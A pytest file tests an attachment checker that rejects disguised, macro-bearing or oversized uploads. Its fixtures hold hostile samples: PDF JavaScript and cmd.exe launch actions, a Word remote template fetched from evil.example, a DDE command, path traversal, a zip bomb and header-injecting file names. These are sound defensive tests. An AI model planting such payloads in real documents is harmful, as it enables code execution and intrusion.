"""A file is what its content says; what pretends, runs or is too large stays outside."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
import xlsxwriter

from sms_gateway.tickets import attachments
from sms_gateway.tickets.file_types import (
    FileHasMacros,
    FileHasScripts,
    FileIsEmpty,
    FileIsFalse,
    FileIsNotWelcome,
    clean_name,
    kind_of,
)

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"\x00" * 40 + b"\xff\xd9"


def png() -> bytes:
    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\x00\x00")) + part(b"IEND", b"")


def office(main: str = "word/document.xml", kind: str = "wordprocessingml.document.main+xml", **more: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", f'<Types><Override ContentType="application/vnd.x.{kind}"/></Types>')
        made.writestr(main, "<w/>")
        for name, content in more.items():
            made.writestr(name, content)
    return packed.getvalue()


def xlsx() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "办理情况")
    return made.getvalue()


GOOD = {"a.pdf": PDF, "b.JPG": JPG, "c.jpeg": JPG, "d.png": png(), "e.docx": office(), "f.xlsx": xlsx()}


@pytest.mark.parametrize("name", GOOD)
def test_what_offices_send_is_taken(name: str) -> None:
    assert kind_of(name, GOOD[name]) == name.rpartition(".")[2].lower().replace("jpeg", "jpg")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("回复.pdf", b"MZ" + b"\0" * 200),
        ("回复.pdf", b"<html><script>alert(1)</script></html>"),
        ("回复.pdf", b"%PDF-1.4\n" + b"<script>" * 1000),
        ("回复.png", JPG),
        ("回复.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("回复.docx", xlsx()),
        ("回复.xlsx", office()),
        ("回复.docx", b"PK\x03\x04" + b"\0" * 100),
        ("回复.docx", office(**{"../../etc/passwd": "x"})),
        ("回复.docx", office(kind="presentationml.main+xml")),
    ],
)
def test_a_false_type_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(FileIsFalse):
        kind_of(name, content)


@pytest.mark.parametrize(
    "content",
    [
        office(**{"word/vbaProject.bin": "x"}),
        office(kind="ms-word.document.macroEnabled.main+xml"),
        office(**{"word/embeddings/oleObject1.bin": "x"}),
    ],
)
def test_macros_and_embedded_programs_are_refused(content: bytes) -> None:
    with pytest.raises(FileHasMacros):
        kind_of("回复.docx", content)


@pytest.mark.parametrize(
    "action",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"/OpenAction<</S/Java#53cript/JS 5 0 R>>",
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles 7 0 R >>",
        b"/Type /EmbeddedFile /Length 3",
        b"/Subtype /RichMedia",
    ],
)
def test_a_pdf_that_runs_or_brings_something_along_is_refused(action: bytes) -> None:
    with pytest.raises(FileHasScripts) as caught:
        kind_of("回复.pdf", PDF.replace(b"<<>>", b"<< " + action + b" >>", 1))
    assert caught.value.status_code == 422


def test_a_pdf_that_opens_at_a_page_or_leads_to_one_is_taken() -> None:
    harmless = b"/OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://www.yn.gov.cn/LaunchPad) >> /Title (JavaScript) /Launches 1"
    assert kind_of("回复.pdf", PDF.replace(b"<<>>", b"<< " + harmless + b" >>", 1)) == "pdf"


TEMPLATE = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("word/_rels/settings.xml.rels", TEMPLATE),
        ("word/_rels/settings.xml.rels", TEMPLATE.replace("attachedTemplate", "attached&#84;emplate")),
        ("word/_rels/settings.xml.rels", TEMPLATE.encode("utf-16")),
        ("word/_rels/document.xml.rels", TEMPLATE.replace("attachedTemplate", "oleObject")),
        (
            "word/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
    ],
)
def test_what_fetches_a_program_from_elsewhere_is_refused(name: str, part: str) -> None:
    with pytest.raises(FileHasMacros):
        kind_of("回复.docx", office(**{name: part}))


def test_a_link_to_click_on_is_no_program() -> None:
    link = TEMPLATE.replace("attachedTemplate", "hyperlink")
    assert kind_of("回复.docx", office(**{"word/_rels/document.xml.rels": link})) == "docx"
    assert kind_of("f.xlsx", xlsx()) == "xlsx"


def test_links_without_end_are_refused() -> None:
    with pytest.raises(FileIsFalse):
        kind_of("回复.docx", office(**{"word/_rels/a.rels": "x" * (3 * 1024 * 1024)}))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("回复.pdf", PDF + office()),
        ("回复.docx", b"<html>" + office()),
        ("回复.png", png() + b"<script>" * 1000),
        ("回复.jpg", PDF + JPG),
    ],
)
def test_two_kinds_in_one_are_refused(name: str, content: bytes) -> None:
    padded = content + b"\0" * 4096 if name.endswith("pdf") else content
    with pytest.raises(FileIsFalse):
        kind_of(name, padded)


@pytest.mark.parametrize("name", ["a.exe", "a.docm", "a.svg", "a.pdf.html", "pdf", "", "a.zip", "a.doc"])
def test_other_kinds_are_not_welcome(name: str) -> None:
    with pytest.raises(FileIsNotWelcome):
        kind_of(name, PDF)
    with pytest.raises(FileIsEmpty):
        kind_of("a.pdf", b"")


def test_a_bomb_is_refused_without_being_unpacked() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "wordprocessingml.document.main+xml")
        made.writestr("word/document.xml", b"\0" * (201 * 1024 * 1024))
    assert len(packed.getvalue()) < 1024 * 1024
    with pytest.raises(FileIsFalse):
        kind_of("回复.docx", packed.getvalue())


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("C:\\Users\\x\\办理回复.PDF", "办理回复.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("回复\u202efdp.exe.pdf", "回复fdp.exe.pdf"),
        ('a"b;c\r\nSet-Cookie: x=1.pdf', "a_b_cSet-Cookie_ x=1.pdf"),
        (".pdf", "附件.pdf"),
        ("长" * 300 + ".pdf", "长" * 80 + ".pdf"),
    ],
)
def test_a_name_leads_nowhere_and_hides_nothing(name: str, clean: str) -> None:
    assert clean_name(name, "pdf") == clean


def test_one_file_has_a_largest_size() -> None:
    with pytest.raises(attachments.FileIsTooLarge) as raised:
        attachments.check("a.pdf", PDF + b"\0" * attachments.MAX_BYTES)
    assert raised.value.status_code == 413
